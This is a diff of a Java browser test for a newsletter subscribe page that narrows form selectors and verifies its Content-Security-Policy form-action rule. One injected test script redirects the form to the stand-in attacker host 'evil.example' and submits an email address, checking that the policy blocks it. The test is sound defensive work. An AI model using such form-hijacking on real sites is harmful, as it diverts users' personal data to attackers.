@@ -153,12 +153,12 @@ class SubscribeTest {
         open("subscribe/index.html");
         assertEquals(
                 "https://mail.example.com/subscribe?list=1",
-                browser().run("return document.querySelector('form').action;"));
+                browser().run("return document.querySelector('main form').action;"));
         assertEquals(
                 List.of("EMAIL", "tag"),
                 browser()
                         .texts(
-                                "return [...document.querySelectorAll('form [name]')]"
+                                "return [...document.querySelectorAll('main form [name]')]"
                                         + ".map((e) => e.name);"));
         String policy = browser().run("return document.querySelector('[http-equiv]').content;");
         assertTrue(policy.endsWith(";form-action https://mail.example.com"), policy);
@@ -167,7 +167,7 @@ class SubscribeTest {
                         "window.refused = [];"
                                 + "addEventListener('securitypolicyviolation',"
                                 + " (e) => refused.push(e.effectiveDirective));"
-                                + "const form = document.querySelector('form');"
+                                + "const form = document.querySelector('main form');"
                                 + "form.action = 'https://evil.example/';"
                                 + "form.querySelector('[type=email]').value = 'ada@example.org';"
                                 + "form.querySelector('button').click();");
